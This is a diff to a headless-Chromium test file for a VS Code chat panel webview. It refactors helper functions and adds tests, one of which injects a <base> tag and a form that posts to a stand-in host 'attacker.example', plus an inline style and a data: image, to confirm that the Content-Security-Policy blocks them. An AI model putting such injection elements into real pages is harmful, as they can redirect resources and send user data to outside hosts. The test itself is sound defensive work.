@@ -3,23 +3,9 @@
 // (structured-cloned, as the real one does) and lets the test send host messages.
 import * as assert from 'node:assert/strict';
 import type { Browser, Page } from 'playwright-core';
-import type { Conversation, HostMessage, WebviewMessage } from '../../src/chat/protocol';
+import type { Conversation, HostMessage } from '../../src/chat/protocol';
+import { clearPosted, posted, send, SHIM, waitPosted } from './panel-support';
 import { bundle, launchChromium, openWebviewPage, type WebviewPage } from './webview-page';
-
-const SHIM = `
-window.__posted = [];
-window.__vsState = JSON.parse(sessionStorage.getItem('vsState') || 'null');
-let acquired = false;
-window.acquireVsCodeApi = () => {
-  if (acquired) throw new Error('acquireVsCodeApi called twice');
-  acquired = true;
-  return {
-    postMessage: (m) => window.__posted.push(structuredClone(m)),
-    getState: () => window.__vsState,
-    setState: (s) => { window.__vsState = structuredClone(s); sessionStorage.setItem('vsState', JSON.stringify(s)); },
-  };
-};
-`;
 
 const ANSWER = '## Result\n\nUse **add**:\n\n```ts\nconst sum = add(1, 2);\n```\n\nDone.';
 
@@ -51,29 +37,6 @@ function state(over: Partial<Extract<HostMessage, { type: 'state' }>> = {}): Hos
     hasApiKey: true,
     ...over,
   };
-}
-
-async function send(page: Page, m: HostMessage): Promise<void> {
-  await page.evaluate((msg) => window.postMessage(msg, '*'), m);
-}
-
-async function posted(page: Page): Promise<WebviewMessage[]> {
-  return page.evaluate(() => (window as unknown as { __posted: WebviewMessage[] }).__posted);
-}
-
-async function clearPosted(page: Page): Promise<void> {
-  await page.evaluate(() => ((window as unknown as { __posted: unknown[] }).__posted.length = 0));
-}
-
-/** Waits until the page has posted a message matching `pred`, and returns it. */
-async function waitPosted(page: Page, pred: (m: WebviewMessage) => boolean, what: string): Promise<WebviewMessage> {
-  const deadline = Date.now() + 5000;
-  for (;;) {
-    const hit = (await posted(page)).find(pred);
-    if (hit) return hit;
-    if (Date.now() > deadline) throw new Error(`not posted: ${what}; posted: ${JSON.stringify(await posted(page))}`);
-    await page.waitForTimeout(30);
-  }
 }
 
 describe('webview: chat panel (headless Chromium)', function () {
@@ -122,6 +85,37 @@ describe('webview: chat panel (headless Chromium)', function () {
     // The codicon font comes from the bundle (the CSP allows fonts from the view's origin only).
     await page.waitForFunction(() => document.fonts.check('16px codicon'));
     assert.ok(await page.evaluate(() => [...document.fonts].some((f) => f.family.includes('codicon') && f.status === 'loaded')));
+  });
+
+  it('the CSP refuses <base>, form submission, inline styles and data: images, and the panel needs none', async () => {
+    // The panel rendered above without a violation (afterEach); now try what an injection would use.
+    const violations = await page.evaluate(async () => {
+      const w = window as unknown as { __csp: string[] };
+      w.__csp.length = 0;
+      const base = document.createElement('base');
+      base.href = 'https://attacker.example/';
+      document.head.append(base);
+      const form = document.createElement('form');
+      form.action = 'https://attacker.example/collect';
+      form.method = 'post';
+      document.body.append(form);
+      form.requestSubmit();
+      const style = document.createElement('style');
+      style.textContent = 'body { background: red; }';
+      document.head.append(style);
+      const img = document.createElement('img');
+      img.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
+      document.body.append(img);
+      await new Promise((r) => setTimeout(r, 300));
+      for (const el of [base, form, style, img]) el.remove();
+      // Reports can arrive late (and <base> is reported again as URLs resolve): wait, then take all.
+      await new Promise((r) => setTimeout(r, 300));
+      const found = [...new Set(w.__csp.map((v) => v.split(' ')[0]))].sort();
+      w.__csp.length = 0;
+      return found;
+    });
+    assert.deepEqual(violations, ['base-uri', 'form-action', 'img-src', 'style-src-elem']);
+    assert.equal(await page.evaluate(() => getComputedStyle(document.body).backgroundColor === 'rgb(255, 0, 0)'), false);
   });
 
   it('Enter sends, Shift+Enter adds a line, and the box empties', async () => {
@@ -288,6 +282,10 @@ describe('webview: chat panel (headless Chromium)', function () {
     await waitPosted(page, (m) => m.type === 'draft' && m.text === 'unsent question', 'draft');
     await send(page, { type: 'draftTokens', count: 1234, contextLength: 131072 });
     await page.locator('.draft-tokens', { hasText: '1,234 / 128K tokens' }).waitFor();
+    // A local estimate (nothing sent, or counting failed) is marked ≈ and says why on hover.
+    await send(page, { type: 'draftTokens', count: 12, estimated: 'Kimi could not count the tokens (offline); this is a local estimate.' });
+    await page.locator('.draft-tokens', { hasText: '≈12 tokens' }).waitFor();
+    assert.match((await page.locator('.draft-tokens').getAttribute('title')) ?? '', /could not count.*local estimate/);
 
     await page.reload();
     await waitPosted(page, (m) => m.type === 'ready', 'ready after reload');
